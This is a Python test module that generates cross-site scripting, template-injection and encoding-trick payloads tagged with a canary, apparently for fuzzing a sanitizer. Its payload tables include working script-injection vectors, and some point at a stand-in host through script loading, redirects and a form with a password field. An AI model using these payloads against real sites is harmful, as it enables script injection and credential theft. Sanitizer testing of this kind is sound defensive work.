"""Hostile strings from a grammar of the places a text may end up in: between tags, in attributes, addresses, SVG,
templates, entities, Markdown, and among signs that turn or hide text.

Whatever one of them would make, carries the canary: an attribute, a tag or an address that no page of ours has.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

CANARY = "xq-canary"
CALL = "alert(`xq-canary`)"
OUT = "https://xq-canary.test/"

TAGS = (
    "<img {c} src=x onerror={call}>", "<svg {c} onload={call}>", "<script {c}>{call}</script>", "<script {c} src={out}></script>",
    "<iframe {c} src=javascript:{call}>", "<a {c} href='javascript:{call}'>klik</a>", "<details {c} open ontoggle={call}>",
    "<video {c}><source onerror={call}></video>", "<math {c}><mtext><img {c} src=x onerror={call}>", "<style {c}>*{{x:url({out})}}</style>",
    "<link {c} rel=stylesheet href={out}>", "<base {c} href={out}>", "<meta {c} http-equiv=refresh content=0;url={out}>",
    "<form {c} action={out}><input {c} name=password>", "<object {c} data={out}>", "<xq-canary></xq-canary>", "<template {c}>",
    "<svg {c}><animate {c} onbegin={call} attributeName=x dur=1s>", "<svg {c}><foreignObject><body {c} onload={call}>",
    "<svg {c}><use {c} href='{out}#x'/></svg>", "<noscript><p {c} title='</noscript><img {c} src=x onerror={call}>'>",
    "<div {c} hx-get={out} hx-trigger=load>", "<div {c} data-key=e data-confirm=x>", "<live-stream {c}><stream-listener src={out}></stream-listener></live-stream>",
)  # fmt: skip
BREAKS = ("", '"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "\x00", "\n", "--!>", "</template>")  # fmt: skip
ATTRIBUTES = ("{c}=1 onmouseover={call} ", "{c} autofocus onfocus={call} tabindex=0 ", "{c} style=x:expression({call}) ", "/{c}/onerror={call}//")  # fmt: skip
ADDRESSES = (
    "javascript:{call}//{c}", "JaVaScRiPt:{call}", "java\tscript:{call}", "\x01javascript:{call}", "data:text/html,<script {c}>{call}</script>",
    "vbscript:{call}", "//xq-canary.test/", "{out}?a=\"><img {c}>", "https://a.test/{c}'onclick='{call}", "https:javascript:{call}",
)  # fmt: skip
TEMPLATES = ("{{{{ {call} }}}}", "{{% load static %}}{{% debug %}} {c}", "${{{call}}}", "#{{{call}}}", "<%= {call} %>", "{{{{constructor.constructor('{call}')()}}}}", "[[{call}]]")  # fmt: skip
ENTITIES = ("&lt;img {c} src=x onerror={call}&gt;", "&#60;img {c} src=x onerror={call}&#62;", "&#x3c;script {c}&#x3e;{call}", "&amp;lt;b {c}&amp;gt;", "%3Cimg {c} src=x onerror={call}%3E", "\\u003cimg {c} src=x onerror={call}\\u003e", "＜img {c} src=x onerror={call}＞")  # fmt: skip
MARKDOWN = ("[klik](javascript:{call})", "![x]({out}{c}.png)", "`<img {c} src=x onerror={call}>`", "<{out}>", "**<b {c}>**", "[x]: {out} \"{c}\"", "| <i {c}> |")  # fmt: skip
SIGNS = ("\u202e", "\u2066", "\u200b", "\ufeff", "\u2028", "\u0085", "\u00ad", "\u061c", "e\u0301" * 9, "\U000e0041")  # fmt: skip
CONTEXTS = (TAGS, ATTRIBUTES, ADDRESSES, TEMPLATES, ENTITIES, MARKDOWN)


def strings(count: int, *, seed: int = 1) -> list[str]:
    """`count` different strings; the same for the same seed. The plain forms of every context come first."""
    found: dict[str, None] = {}
    for one in _made(random.Random(seed)):
        found[one] = None
        if len(found) == count:
            return list(found)
    raise AssertionError("the grammar does not end")


def _made(draw: random.Random) -> Iterator[str]:
    for context in CONTEXTS:
        yield from map(_filled, context)
    while True:
        parts = [draw.choice(BREAKS), _filled(draw.choice(draw.choice(CONTEXTS)))]
        if draw.random() < 0.4:
            parts.insert(draw.randrange(3), draw.choice(SIGNS))
        if draw.random() < 0.3:
            parts.append(_filled(draw.choice(draw.choice(CONTEXTS))))
        if draw.random() < 0.2:
            parts = [draw.choice((str.upper, str.title, str.swapcase))(part) for part in parts]
        yield "".join(parts)


def _filled(form: str) -> str:
    return form.format(c=CANARY, call=CALL, out=OUT)
